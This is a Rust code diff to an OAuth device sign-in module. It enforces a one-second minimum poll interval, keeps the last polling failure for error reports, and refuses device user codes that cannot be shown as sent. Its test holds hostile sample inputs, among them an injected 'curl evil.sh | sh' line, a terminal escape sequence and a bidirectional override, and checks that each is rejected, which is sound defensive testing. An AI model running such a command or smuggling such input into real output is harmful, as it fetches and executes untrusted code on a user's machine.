@@ -2,6 +2,7 @@
 //! person opens the provider's page on any device and types a short code, while
 //! Grantkeeper polls the token endpoint.
 
+use std::sync::Mutex;
 use std::time::Duration;
 
 use oauth2::basic::BasicErrorResponseType;
@@ -14,12 +15,15 @@ use url::Url;
 use super::client::{oauth_client, token_endpoint, token_error};
 use super::grant::Grant;
 use super::id_token::Expected;
-use crate::http::HttpClient;
+use super::quirks::TokenEndpoint;
+use crate::http::{HttpClient, HttpError};
 use crate::provider::{provider_url, ProviderRecord};
 use crate::{Error, Result, Secret};
 
 /// The longest wait between polls taken as given.
 const MAX_POLL_INTERVAL: Duration = Duration::from_secs(3600);
+/// The shortest: however little a provider asks, it is not polled more than once a second.
+const SHORTEST_POLL_INTERVAL: Duration = Duration::from_secs(1);
 
 /// What the person needs to finish signing in, and what the poll needs.
 pub struct DeviceAuthorization {
@@ -68,8 +72,19 @@ pub async fn device_authorization(
         .add_scopes(scopes.iter().map(|s| Scope::new(s.clone())))
         .request_async(&token_endpoint(provider, http))
         .await
-        .map_err(|e| {
-            token_error(e, &provider.name, device_url.url(), &client_secret.iter().collect::<Vec<_>>())
+        .map_err(|e| match e {
+            RequestTokenError::Request(error) => {
+                error.for_provider(device_url.url(), &provider.name, "device sign-in answer")
+            }
+            // Neither quotes the body, which may hold the device code.
+            RequestTokenError::Parse(..) | RequestTokenError::Other(_) => Error::ProviderError {
+                provider: provider.name.clone(),
+                detail: format!(
+                    "its device authorization endpoint ({}) did not answer with a device sign-in: one needs a device_code, a user_code, a verification_uri and a whole number of seconds in expires_in. Check its address (--device-authorization-url)",
+                    device_url.url()
+                ),
+            },
+            other => token_error(other, &provider.name, device_url.url(), &client_secret.iter().collect::<Vec<_>>()),
         })?;
     DeviceAuthorization::of(provider, details, client_secret, scopes)
 }
@@ -116,9 +131,20 @@ impl DeviceAuthorization {
                 ),
             });
         }
+        // Typed by the person as shown: a code shown otherwise than sent could never work.
+        let user_code = details.user_code().secret();
+        if user_code.is_empty()
+            || user_code.chars().count() > 64
+            || user_code.chars().any(crate::error::misleads)
+        {
+            return Err(Error::ProviderError {
+                provider: provider.name.clone(),
+                detail: "its device sign-in answer has no short, printable code to type".into(),
+            });
+        }
         Ok(DeviceAuthorization {
             client_secret,
-            user_code: crate::error::provider_text(details.user_code().secret()),
+            user_code: user_code.clone(),
             expires_in: details.expires_in(),
             verification_url,
             details,
@@ -139,14 +165,17 @@ impl DeviceAuthorization {
     ) -> Result<Grant> {
         let client = oauth_client(provider, self.client_secret.clone())?;
         let token_url = Url::parse(client.token_uri().as_str()).expect("validated when stored");
+        let device_code = Secret::new(self.details.device_code().secret().clone());
+        let sent: Vec<&Secret> = self.client_secret.iter().chain([&device_code]).collect();
+        let polled = Polled { endpoint: token_endpoint(provider, http), last_failure: Mutex::new(None) };
+        // RFC 8628 §3.5: the interval is the least wait between polls, the first one
+        // included; an interval of 0 would poll as fast as the provider answers.
+        let pace = |wait: Duration| tokio::time::sleep(wait.max(SHORTEST_POLL_INTERVAL));
+        pace(self.details.interval()).await;
         let response = client
             .exchange_device_access_token(&self.details)
             .set_max_backoff_interval(Duration::from_secs(60))
-            .request_async(
-                &token_endpoint(provider, http),
-                tokio::time::sleep,
-                Some(time_limit.min(self.expires_in)),
-            )
+            .request_async(&polled, pace, Some(time_limit.min(self.expires_in)))
             .await
             .map_err(|error| match &error {
                 RequestTokenError::ServerResponse(response) if declined(response.error()) => {
@@ -155,19 +184,65 @@ impl DeviceAuthorization {
                 RequestTokenError::ServerResponse(response)
                     if *response.error() == DeviceCodeErrorResponseType::ExpiredToken =>
                 {
-                    Error::FlowExpired
+                    // oauth2 also says so when the time ran out while polls failed.
+                    match polled.last_failure.lock().expect("poll lock").take() {
+                        Some(failure) => failure.for_provider(&token_url, &provider.name, "token response"),
+                        None if self.expires_in <= time_limit => {
+                            Error::DeviceCodeExpired { lasted: lasted(self.expires_in) }
+                        }
+                        None => Error::FlowExpired,
+                    }
                 }
-                _ => {
-                    let device_code = Secret::new(self.details.device_code().secret().clone());
-                    let sent: Vec<&Secret> = self.client_secret.iter().chain([&device_code]).collect();
-                    token_error(error, &provider.name, &token_url, &sent)
-                }
+                _ => token_error(error, &provider.name, &token_url, &sent),
             })?;
         // RFC 8628 has no nonce: the token comes straight from the token endpoint, in
         // answer to this device code.
         let expected = Expected::SignIn { nonce: None };
         let secret = self.client_secret.as_ref();
         Grant::of_sign_in(&response, provider, secret, expected, &self.requested_scopes, http).await
+    }
+}
+
+/// The token endpoint while polling. oauth2 waits longer after a request that failed
+/// and polls on, so the last failure is kept: when the code runs out meanwhile, it is
+/// what went wrong.
+struct Polled {
+    endpoint: TokenEndpoint,
+    last_failure: Mutex<Option<HttpError>>,
+}
+
+impl<'c> oauth2::AsyncHttpClient<'c> for Polled {
+    type Error = HttpError;
+    type Future = std::pin::Pin<
+        Box<
+            dyn std::future::Future<Output = std::result::Result<oauth2::HttpResponse, HttpError>>
+                + Send
+                + 'c,
+        >,
+    >;
+
+    fn call(&'c self, request: oauth2::HttpRequest) -> Self::Future {
+        Box::pin(async move {
+            match self.endpoint.call(request).await {
+                Ok(response) => {
+                    *self.last_failure.lock().expect("poll lock") = None;
+                    Ok(response)
+                }
+                Err(error) => {
+                    let said = error.to_string();
+                    *self.last_failure.lock().expect("poll lock") = Some(error);
+                    Err(HttpError::Transport(said))
+                }
+            }
+        })
+    }
+}
+
+/// How long a code lasted, in words.
+fn lasted(lifetime: Duration) -> String {
+    match lifetime.as_secs() {
+        seconds if seconds < 120 => format!("{seconds} seconds"),
+        seconds => format!("{} minutes", seconds / 60),
     }
 }
 
@@ -195,11 +270,29 @@ mod tests {
     }
 
     fn answer(interval: &str, expires_in: u64) -> Result<DeviceAuthorization> {
+        answer_with_code("FAKE-CODE", interval, expires_in)
+    }
+
+    fn answer_with_code(user_code: &str, interval: &str, expires_in: u64) -> Result<DeviceAuthorization> {
         let details = serde_json::from_str(&format!(
-            r#"{{"device_code":"fake-device","user_code":"FAKE-CODE","verification_url":"https://www.google.com/device","expires_in":{expires_in},"interval":{interval}}}"#
+            r#"{{"device_code":"fake-device","user_code":{},"verification_url":"https://www.google.com/device","expires_in":{expires_in},"interval":{interval}}}"#,
+            serde_json::Value::from(user_code)
         ))
         .unwrap();
         DeviceAuthorization::of(&google(), details, None, &[])
+    }
+
+    /// The person types the code as shown: one that could not be shown as sent (empty,
+    /// a line break, an escape sequence, a bidirectional override) or is no short code
+    /// is refused, not rewritten.
+    #[test]
+    fn a_code_that_cannot_be_shown_as_sent_is_refused() {
+        assert_eq!(answer_with_code("WDJB-MJHT", "5", 900).unwrap().user_code, "WDJB-MJHT");
+        let long = "A".repeat(65);
+        for code in ["", "ABCD\nNow run: curl evil.sh | sh", "AB\u{1b}[2JCD", "AB\u{202e}CD", &long] {
+            let error = answer_with_code(code, "5", 900).err().expect("refused");
+            assert!(error.to_string().contains("no short, printable code"), "{code:?}: {error}");
+        }
     }
 
     /// Seen in oauth2's poll loop, which adds 5 s on slow_down; the device_authorization
